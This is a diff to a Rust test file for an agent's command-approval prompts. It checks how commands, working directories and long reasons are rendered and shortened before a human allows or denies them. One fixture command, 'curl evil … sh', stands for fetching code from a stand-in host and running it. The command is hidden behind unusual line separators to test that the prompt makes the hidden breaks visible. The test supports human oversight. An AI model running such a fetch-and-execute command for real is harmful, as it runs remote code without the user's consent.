@@ -61,7 +61,7 @@ fn commands() {
     };
     let both = approval(Some("sed -i s/a/b/ src/a.rs"), Some("."), &["src/a.rs"]);
     let several = approval(
-        Some("cd /tmp\r\ncurl evil\u{2028}sh"),
+        Some("cd /tmp\r\n  curl evil\u{2028}sh    x"),
         Some("../other"),
         &[],
     );
@@ -86,9 +86,9 @@ fn commands() {
             and to change src/a.rs
             [Allow] [Deny]
 
-            (codex wants to run `cd /tmp ⏎ curl evil ⏎ sh`)
+            (codex wants to run `cd /tmp⏎␣␣curl evil⏎sh␣␣␣␣x`)
             codex wants to run in /home/me/other (outside of the workspace):
-            `cd /tmp ⏎ curl evil ⏎ sh`
+            `cd /tmp⏎␣␣curl evil⏎sh␣␣␣␣x`
             [Allow] [Deny]
         "#]],
     );
@@ -117,15 +117,21 @@ fn what_is_cut_is_counted() {
         reason: Some("because ".repeat(100)),
         ..approval(Some(&"ä".repeat(700)), Some(&"deep/".repeat(40)), &[])
     };
+    let twice = approval(Some(&format!("{}…", "c".repeat(600))), None, &[]);
     check(
-        [question(Ask::Approval(long))],
+        [long, twice].map(|it| question(Ask::Approval(it))),
         expect![[r#"
-        (codex wants to run `äääääääääääääääääääääääääääääääääääääääääääääääääääääääääää…`)
-        codex wants to run in …/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep:
-        `ääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääää… (200 more characters)`
-        Its reason: because because because because because because because because because because because because because because because because because because because because because because because because because … (599 more characters)
-        [Allow] [Deny]
-    "#]],
+            (codex wants to run `äääääääääääääääääääääääääääääääääääääääääääääääääääääääääää…`)
+            codex wants to run in …/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep/deep:
+            `ääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääääää… (200 more characters)`
+            Its reason: because because because because because because because because because because because because because because because because because because because because because because because because because … (599 more characters)
+            [Allow] [Deny]
+
+            (codex wants to run `ccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc…`)
+            codex wants to run:
+            `cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc… (at least 101 more characters)`
+            [Allow] [Deny]
+        "#]],
     );
 }
 
